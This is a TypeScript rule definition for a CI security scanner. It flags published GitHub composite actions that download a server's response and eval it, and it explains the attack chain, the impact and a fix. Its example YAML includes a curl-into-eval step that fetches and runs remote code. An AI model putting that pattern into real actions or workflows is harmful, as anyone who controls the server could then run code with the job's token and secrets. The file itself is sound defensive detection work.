import { yaml } from '#lib/scanner/engine/rule.ts';
import { defineCombo } from '../combo.ts';

export const publishedActionRunsAnswers = defineCombo({
  id: 'published-action-runs-answers',
  title: 'Published action runs code from a server’s response',
  severity: 'HIGH',
  slots: {
    answer: { any: [{ rule: 'unverified-script-exec', where: { published: true, kind: 'evaluated' } }] },
  },
  join: { same: 'file' },
  stages: [
    {
      title: 'Someone uses the action at a pinned commit',
      description: 'The commit fixes only the action’s own code, and its author reviews only that code.',
    },
    {
      slot: 'answer',
      title: 'The action evaluates a server’s response',
      description: 'The response can differ for each caller, and leaves no trace in any repository.',
    },
    {
      title: 'The response runs in the caller’s job',
      description: 'It gets the token and the secrets of every job that uses the action.',
    },
  ],
  impact: 'Whoever controls the server, or its name, runs code in every workflow that uses this action.',
  breakChain: {
    text: 'Ship the code with the action, or compare the download with a checksum in the action.',
    slot: 'answer',
  },
  references: [
    'https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions',
    'https://slsa.dev/spec/v1.1/threats',
  ],
  since: '0.1.0',
  examples: {
    bad: [
      {
        yaml: {
          'action.yml': yaml`
            name: Status
            description: Asks for the next task
            runs:
              using: composite
              steps:
                - run: |
                    ask() { curl -sf "$@"; }
                    answer=$(ask https://status.example/next)
                    eval "$answer"
                  shell: bash
          `,
        },
      },
    ],
    good: [
      {
        yaml: {
          'action.yml': yaml`
            name: Status
            description: Prints the status
            runs:
              using: composite
              steps:
                - run: |
                    answer=$(curl -sf https://status.example/now)
                    echo "$answer"
                  shell: bash
          `,
        },
      },
      {
        yaml: {
          '.github/actions/status/action.yml': yaml`
            name: Status
            description: Serves the workflows of this repository
            runs:
              using: composite
              steps:
                - run: |
                    answer=$(curl -sf https://status.example/next)
                    eval "$answer"
                  shell: bash
          `,
        },
      },
    ],
  },
});
